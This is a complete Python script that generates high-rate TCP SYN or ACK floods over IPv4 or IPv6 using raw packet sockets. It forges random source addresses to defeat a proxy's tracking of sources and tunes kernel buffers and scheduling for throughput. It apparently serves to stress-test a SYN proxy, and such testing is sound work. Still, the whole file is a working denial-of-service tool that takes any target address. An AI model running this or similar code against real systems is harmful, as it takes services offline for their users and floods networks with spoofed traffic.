#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""Makes floods that hping3 cannot make: IPv6, forged ACKs, several times as fast, at a given rate. Runs until it is
stopped.

usage: flood.py DEVICE SOURCE-MAC TARGET-MAC syn4|syn6|ack4|ack6 TARGET-ADDRESS [FRAMES-PER-SECOND]

Sources are random, and hardly any comes twice, so that a proxy's memory of sources does not help it.
"""
import contextlib
import ctypes
import os
import random
import signal
import socket
import struct
import sys
import time

BATCH = 64       # frames given to the kernel at once
FRAMES = 8192    # made beforehand; their sources change each time all have been sent
LATE = 0.01      # seconds; frames that are later than this are skipped
SYN, ACK = 0x02, 0x10
ETHERNET = 14
SYN_OPTIONS = bytes.fromhex("020405b40402080a000003e80000000001030307")
ACK_OPTIONS = bytes.fromhex("0101080a000003e900000001")
# 255 - b for each byte b. If a byte of the source address is b, another byte that counts the same in the sum is this.
# So the sum, and with it the checksum, is the same for every b (RFC 1071).
COMPLEMENT = bytes(255 - b for b in range(256))


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def tcp(pseudo_header, tail, syn):
    """`tail`: the last two bytes of the source address."""
    options = SYN_OPTIONS if syn else ACK_OPTIONS
    port, ack = random.randrange(1024, 65536), 0 if syn else random.getrandbits(32)
    seq = tail.translate(COMPLEMENT) + random.randbytes(2)

    def header(check):
        return struct.pack("!HH4sIBBHHH", port, 80, seq, ack, (20 + len(options)) << 2, SYN if syn else ACK, 64240,
                           check, 0) + options

    return header(checksum(pseudo_header(20 + len(options)) + header(0)))


def frame4(target, syn):
    source = bytes((11,)) + random.randbytes(3)
    segment = tcp(lambda length: source + target + struct.pack("!BBH", 0, 6, length), source[2:], syn)

    def header(check):
        return struct.pack("!BBH2sHBBH", 0x45, 0, 20 + len(segment), source[2:].translate(COMPLEMENT), 0x4000, 60, 6,
                           check) + source + target

    return b"\x08\x00" + header(checksum(header(0))) + segment


def frame6(target, syn):
    source = bytes.fromhex("fd00bad000000000") + random.randbytes(8)
    segment = tcp(lambda length: source + target + struct.pack("!II", length, 6), source[14:], syn)
    return b"\x86\xdd" + struct.pack("!IHBB", 0x60000000, len(segment), 6, 60) + source + target + segment


class Pool:
    """The frames, one after another in one piece of memory, so that the same byte of all frames is one slice."""

    def __init__(self, frames, family):
        self.size = len(frames[0])
        self.memory = bytearray(b"".join(frames))
        if family == socket.AF_INET:
            tail, self.complements = ETHERNET + 14, (ETHERNET + 4, ETHERNET + 20 + 4)  # identification, sequence
        else:
            tail, self.complements = ETHERNET + 8 + 14, (ETHERNET + 40 + 4,)
        self.tail = tail

    def new_sources(self):
        for i in (0, 1):
            fresh = random.randbytes(FRAMES)
            self.memory[self.tail + i::self.size] = fresh
            for place in self.complements:
                self.memory[place + i::self.size] = fresh.translate(COMPLEMENT)


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class Header(ctypes.Structure):  # struct msghdr
    _fields_ = [("name", ctypes.c_void_p), ("name_length", ctypes.c_uint), ("iov", ctypes.POINTER(Iovec)),
                ("iov_length", ctypes.c_size_t), ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


class Message(ctypes.Structure):  # struct mmsghdr
    _fields_ = [("header", Header), ("sent", ctypes.c_uint)]


def messages_of(pool):
    begin = ctypes.addressof(ctypes.c_char.from_buffer(pool.memory))
    messages = (Message * FRAMES)()
    for i, message in enumerate(messages):
        message.header.iov = ctypes.pointer(Iovec(begin + i * pool.size, pool.size))
        message.header.iov_length = 1
    return messages


def send_for_ever(port, pool, rate):
    libc = ctypes.CDLL(None)
    messages = messages_of(pool)
    due = time.monotonic()
    while True:
        for first in range(0, FRAMES, BATCH):
            at, end = first, first + BATCH
            while at < end:
                sent = libc.sendmmsg(port.fileno(), ctypes.byref(messages, at * ctypes.sizeof(Message)), end - at, 0)
                at += max(1, sent)  # a refused frame is not sent again: the link had no room for it
            if rate:
                due = max(due + BATCH / rate, time.monotonic() - LATE)
                time.sleep(max(0.0, due - time.monotonic()))
        pool.new_sources()


def main():
    device, source_mac, target_mac, kind, address = sys.argv[1:6]
    rate = float(sys.argv[6]) if len(sys.argv) > 6 else 0
    macs = bytes.fromhex((target_mac + source_mac).replace(":", ""))
    family, build = (socket.AF_INET6, frame6) if kind.endswith("6") else (socket.AF_INET, frame4)
    target = socket.inet_pton(family, address)
    pool = Pool([macs + build(target, kind.startswith("syn")) for _ in range(FRAMES)], family)
    signal.signal(signal.SIGTERM, signal.SIG_DFL)
    if rate:
        # It sleeps between batches, and keeps the rate only if it gets the CPU when it wakes. A real flood comes from
        # other machines, which nothing here slows down.
        with contextlib.suppress(OSError):
            os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as port:
        # With the default buffer the receiver slows the sender down, and there is no flood.
        port.setsockopt(socket.SOL_SOCKET, 32, 32 << 20)  # SO_SNDBUFFORCE
        port.setsockopt(263, 20, 1)  # SOL_PACKET, PACKET_QDISC_BYPASS
        port.bind((device, 0))
        send_for_ever(port, pool, rate)


if __name__ == "__main__":
    main()
